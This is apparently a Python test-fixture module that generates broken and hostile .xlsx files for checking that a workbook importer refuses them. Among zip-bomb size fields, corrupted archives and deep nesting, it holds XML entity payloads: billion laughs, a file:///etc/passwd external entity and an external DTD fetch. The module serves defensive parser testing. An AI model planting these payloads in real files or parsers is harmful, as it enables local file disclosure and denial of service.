"""Workbooks that are broken, lie or mean harm: each has to be refused in a sentence."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path
from random import Random

from .book_kinds import changed, each, sheets_of, some_way
from .books import MAIN, SHEET, Book, Parts, letters, pack
from .csv_kinds import HUGE
from .generator import a_measure, a_tab, kind, required, tabs

OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def good(rng: Random) -> Parts:
    """The parts of a sound workbook."""
    return Book(tabs(), some_way(rng)).parts()


def data_of(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytearray:
    """The archive as bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return bytearray(out.getvalue())


def written(folder: Path, data: bytes | bytearray, name: str = "shop.xlsx") -> Path:
    """These bytes as a file."""
    (folder / name).write_bytes(data)
    return folder / name


@kind("refused")
def cut_off(rng: Random, folder: Path) -> Path:
    """However much of the archive is there."""
    data = data_of(good(rng))
    return written(folder, data[: rng.randrange(1, len(data) - 30)])


@kind("either")
def rotten_bytes(rng: Random, folder: Path) -> Path:
    """Single bytes changed: where it matters the checksum tells."""
    data = data_of(good(rng), rng.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED)))
    for _ in range(rng.choice((1, 1, 3, 40))):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return written(folder, data)


@kind("either")
def rotten_directory(rng: Random, folder: Path) -> Path:
    """Lengths, places, methods and flags of the archive's directory changed by chance."""
    data = data_of(good(rng))
    start = data.find(b"PK\x01\x02")
    for _ in range(rng.choice((1, 2, 8))):
        at = rng.randrange(start, len(data) - 8)
        data[at : at + 4] = rng.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x80\0\0\0", rng.randbytes(4)))
    return written(folder, data)


@kind("refused")
def sizes_of_gigabytes(rng: Random, folder: Path) -> Path:
    """The directory says that a part unfolds to 2 GB and more."""
    parts = good(rng)
    data = data_of(parts)
    name = rng.choice([*sheets_of(parts), "xl/sharedStrings.xml", "xl/styles.xml"]).encode()
    at = data.find(name, data.find(b"PK\x01\x02")) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<L", data, at + 24, rng.choice((2**31, 2**32 - 2, 1 << 30)))
    return written(folder, data)


@kind("refused")
def sizes_of_64_bits(rng: Random, folder: Path) -> Path:
    """Sizes that point to a field of 64 bits that is not there, or says petabytes."""
    data = data_of(good(rng))
    at = data.find(b"PK\x01\x02")
    which = rng.choice((20, 24, 42))
    struct.pack_into("<L", data, at + which, 0xFFFFFFFF)
    return written(folder, data)


@kind("refused")
def parts_over_one_another(rng: Random, folder: Path) -> Path:
    """Two entries of the directory with the same bytes behind them."""
    data = data_of(good(rng))
    first = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", first + 4)
    for _ in range(rng.randrange(3)):
        first, second = second, data.find(b"PK\x01\x02", second + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return written(folder, data)


@kind("refused")
def two_parts_of_one_name(rng: Random, folder: Path) -> Path:
    """Which of them counts, nobody knows."""
    parts = good(rng)
    name = rng.choice(sheets_of(parts))
    return written(folder, data_of({**parts, name.upper(): parts[name]}))


@kind("refused")
def packed_another_way(rng: Random, folder: Path) -> Path:
    """Ways of packing that unfold a gigabyte out of one block."""
    return written(folder, data_of(good(rng), rng.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))))


@kind("refused")
def locked(rng: Random, folder: Path) -> Path:
    """A password on the archive, or on the workbook as spreadsheet programs put it."""
    if rng.random() < 0.5:
        return written(folder, OLD + rng.randbytes(500) + "EncryptedPackage".encode("utf-16-le"))
    data = data_of(good(rng))
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return written(folder, data)


@kind("refused")
def of_another_program(rng: Random, folder: Path) -> Path:
    """Old workbooks, binary ones, OpenDocument, letters, web pages and plain text, whatever their names say."""
    binary = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    letter = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    page = b"<html><table><tr><td>part</td></tr></table></html>"
    data: bytes | bytearray = rng.choice(
        (OLD + rng.randbytes(600), page, b"part,quantity\n", b"PK", b"\xef\xbb\xbf" + page)
    )
    pick = rng.randrange(8)
    if pick < 2:
        data = data_of(Book(tabs(), some_way(rng, kind=(binary, letter)[pick])).parts())
    elif pick == 2:
        data = data_of(
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
        )
    elif pick == 3:
        data = data_of({"letter.txt": b"hello"})
    ending = rng.choice(("xlsx", "xlsx", "xlsm", "xls", "ods", "xlsb", "numbers"))
    return written(folder, data, f"shop.{ending}")


ENTITY = {
    "laughs": '<!DOCTYPE z [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>",
    "square": f'<!DOCTYPE z [<!ENTITY a "{"x" * 5000}">]>',
    "outside": '<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "parameter": '<!DOCTYPE z [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>',
    "bare": "<!DOCTYPE worksheet>",
}


@kind("refused")
def entities(rng: Random, folder: Path) -> Path:
    """Billion laughs, quadratic blow-up, files and pages from outside, in any part that is read."""
    parts = good(rng)
    name = rng.choice(
        [*sheets_of(parts), "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "[Content_Types].xml"]
    )
    parts = changed(parts, name, "?>\n", f"?>\n{rng.choice(sorted(ENTITY.values()))}")
    return pack(folder / "shop.xlsx", parts)


@kind("refused")
def endlessly_deep(rng: Random, folder: Path) -> Path:
    """Elements inside elements, by the thousand."""
    parts = good(rng)
    name = rng.choice([*sheets_of(parts), "xl/workbook.xml", "xl/styles.xml", "_rels/.rels"])
    deep = rng.choice((300, 20_000, 300_000))
    tag = rng.choice(("a", "row", "sheetView"))
    root = {"xl/workbook.xml": "workbook", "xl/styles.xml": "styleSheet", "_rels/.rels": "Relationships"}.get(
        name, "worksheet"
    )
    return pack(
        folder / "shop.xlsx",
        changed(parts, name, f"</{root}>", f"<{tag}>" * deep + f"</{tag}>" * deep + f"</{root}>"),
    )


@kind("refused")
def places_beyond_the_sheet(rng: Random, folder: Path) -> Path:
    """Columns of a million, rows of ten digits, places that are none."""
    cell = rng.choice(("AAAA1", "ZZZZZZZ1", "XFE1", "1", "A-1", "ÄA1", "$A$1"))
    row = rng.choice(('r="9999999999"', 'r="1048577"', 'r="0"', 'r="-5"', 'r="two"', 'r="1e9"', 'r="1.5"'))
    new = rng.choice((f'<row r="900"><c r="{cell}"><v>1</v></c></row>', f"<row {row}><c><v>1</v></c></row>"))
    parts = good(rng)
    return pack(
        folder / "shop.xlsx",
        changed(parts, rng.choice(sheets_of(parts)), "</sheetData>", f"{new}</sheetData>"),
    )


@kind("refused")
def rows_out_of_order(rng: Random, folder: Path) -> Path:
    """A row twice, or after a later one: a reader that goes by number would lose it in silence."""
    parts = good(rng)
    number = rng.choice((1, 2))
    return pack(
        folder / "shop.xlsx",
        changed(
            parts,
            rng.choice(sheets_of(parts)),
            "</sheetData>",
            f'<row r="{number}"><c><v>1</v></c></row></sheetData>',
        ),
    )


@kind("refused")
def a_cell_twice(rng: Random, folder: Path) -> Path:
    """Which of the two is meant, nobody knows."""
    parts = good(rng)
    cell = '<c r="A2" t="str"><v>other</v></c></row><row r="3"'
    return pack(folder / "shop.xlsx", changed(parts, rng.choice(sheets_of(parts)), '</row><row r="3"', cell))


@kind("refused")
def rows_and_cells_astray(rng: Random, folder: Path) -> Path:
    """Rows inside rows, cells inside cells, cells outside rows."""
    parts = good(rng)
    new = rng.choice(
        (
            "<row><row><c/></row></row>",
            "<row><c><c><v>1</v></c></c></row>",
            '<c r="A2"><v>1</v></c>',
            "<row><c></row>",
            "<row",
            "\x00",
        )
    )
    return pack(
        folder / "shop.xlsx",
        changed(parts, rng.choice(sheets_of(parts)), "</sheetData>", f"{new}</sheetData>"),
    )


@kind("refused")
def texts_that_are_not_there(rng: Random, folder: Path) -> Path:
    """Numbers of shared texts beyond the last one, below the first, or none at all."""
    parts = good(rng)
    number = rng.choice(("999999", "-1", "1e2", "x", "9" * 400, "0x1"))
    new = f'<row r="900"><c t="s"><v>{number}</v></c></row></sheetData>'
    return pack(folder / "shop.xlsx", changed(parts, rng.choice(sheets_of(parts)), "</sheetData>", new))


@kind("refused")
def formulas_never_worked_out(rng: Random, folder: Path) -> Path:
    """A required cell with a formula and no result, however it is spelt."""
    among = tabs()
    tab, column = required(rng, among)
    among[tab][1][column] = None
    number = list(among).index(tab) + 1
    parts = Book(among, some_way(rng)).parts()
    name = f"xl/worksheets/sheet{number}.xml"
    formula = rng.choice(
        (
            "<f>A1</f>",
            '<f\nt="shared" si="0"/>',
            "<f/>",
            '<f t="array" ref="A1">A1</f><v></v>',
            "<f>1</f><v/>",
        )
    )
    cell = f'<c r="{letters(column)}2">{formula}</c></row><row r="3"'
    return pack(folder / "shop.xlsx", changed(parts, name, '</row><row r="3"', cell))


@kind("refused")
def results_that_are_none(rng: Random, folder: Path) -> Path:
    """Errors, infinities, truths and 400 digits where a measure belongs."""
    among = tabs()
    tab, row, column = a_measure(rng, among)
    among[tab][row][column] = "SWAP"
    parts = Book(among, some_way(rng)).parts()
    number = list(among).index(tab) + 1
    name, place = f"xl/worksheets/sheet{number}.xml", f"{letters(column)}{row + 1}"
    sort, said = rng.choice(
        [("e", error) for error in ("#REF!", "#DIV/0!", "#N/A")]
        + [("n", one) for one in HUGE if one != "inf"]
        + [("b", "1"), ("d", "26-1-1x")]
    )
    start = parts[name].decode().index(f'<c r="{place}"')
    end = parts[name].decode().index("</c>", start)
    data = parts[name].decode()
    parts[name] = f'{data[:start]}<c r="{place}" t="{sort}"><v>{said}</v>{data[end:]}'.encode()
    return pack(folder / "shop.xlsx", parts)


@kind("refused")
def merged_over_rows(rng: Random, folder: Path) -> Path:
    """One value over several rows or columns: nobody can tell what it is said of."""
    among = tabs()
    tab = rng.choice(("suppliers", "offers", "counts", "bills", "tubes"))
    name = f"xl/worksheets/sheet{list(among).index(tab) + 1}.xml"
    ref = rng.choice(("A2:A3", "A2:B2", "A2:C3", "A3:A200", "2:3"))
    mark = f'</sheetData><mergeCells><mergeCell ref="{ref}"/></mergeCells>'
    return pack(folder / "shop.xlsx", changed(Book(among, some_way(rng)).parts(), name, "</sheetData>", mark))


@kind("refused")
def parts_missing(rng: Random, folder: Path) -> Path:
    """A part that the workbook points to is not there, empty, or something else."""
    parts = good(rng)
    name = rng.choice(
        [
            *sheets_of(parts),
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "_rels/.rels",
            "[Content_Types].xml",
        ]
    )
    spoilt = rng.choice((None, b"", b"<a/>" if "sheet" not in name else b"<a", b"\xff\xfe\x00", b"not xml"))
    parts = {n: d for n, d in parts.items() if n != name} | ({} if spoilt is None else {name: spoilt})
    return pack(folder / "shop.xlsx", parts)


@kind("refused")
def tabs_astray(rng: Random, folder: Path) -> Path:
    """Two tabs on one part, a tab that lies outside, in the air, or is no worksheet; no tab at all; thousands."""
    parts = good(rng)
    rels, book = "xl/_rels/workbook.xml.rels", "xl/workbook.xml"
    pick = rng.randrange(6)
    if pick == 0:
        parts = changed(parts, rels, "sheet2.xml", "sheet1.xml")
    elif pick == 1:
        parts = changed(
            parts,
            rels,
            'Target="/xl/worksheets/sheet3.xml"',
            'Target="http://192.0.2.1/s.xml" TargetMode="External"',
        )
    elif pick == 2:
        parts = changed(parts, book, 'r:id="rId4"', 'r:id="rId4444"')
    elif pick == 3:
        parts = changed(parts, rels, "relationships/worksheet", "relationships/xlMacrosheet")
    elif pick == 4:
        parts[book] = f'<workbook xmlns="{MAIN}"><sheets/></workbook>'.encode()
    else:
        more = "".join(f'<sheet name="c{n}" sheetId="{n + 50}" r:id="rId1"/>' for n in range(5000))
        parts = changed(parts, book, "</sheets>", f"{more}</sheets>")
    return pack(folder / "shop.xlsx", parts)


@kind("refused")
def thousands_of_parts(rng: Random, folder: Path) -> Path:
    """An archive of countless small things."""
    parts = {**good(rng), **{f"xl/media/{n}.png": b"" for n in range(10_001)}}
    return pack(folder / "shop.xlsx", parts, zipfile.ZIP_STORED)


@kind("refused")
def nothing_of_ours(rng: Random, folder: Path) -> Path:
    """A sound workbook of something else."""
    among = tabs()
    lines = among[a_tab(rng, among)]
    return pack(folder / "shop.xlsx", Book({"Sheet1": lines, "Sheet2": [["x"]]}, some_way(rng)).parts())


@kind("refused")
def one_bad_cell_among_many(rng: Random, folder: Path) -> Path:
    """Fourteen good tabs and one bad cell: nothing of them is loaded."""
    among = tabs()
    tab, column = required(rng, among)
    among[tab][rng.randrange(1, len(among[tab]))][column] = rng.choice(
        ("\u202ebad", "x" * 3000, None, "=1+1\x0b?"[:5] * 600)
    )
    return pack(folder / "shop.xlsx", Book(among, some_way(rng)).parts())


@kind("refused")
def giant_texts(rng: Random, folder: Path) -> Path:
    """Cells of a hundred thousand characters, in one piece or in thousands."""
    parts = good(rng)
    piece = rng.choice((f"<is><t>{'x' * 100_000}</t></is>", f"<is>{'<r><t>xyz</t></r>' * 40_000}</is>"))
    new = f'<row r="900"><c r="A900" t="inlineStr">{piece}</c></row></sheetData>'
    assert SHEET
    return pack(
        folder / "shop.xlsx", changed(each(parts, bytes), rng.choice(sheets_of(parts)), "</sheetData>", new)
    )
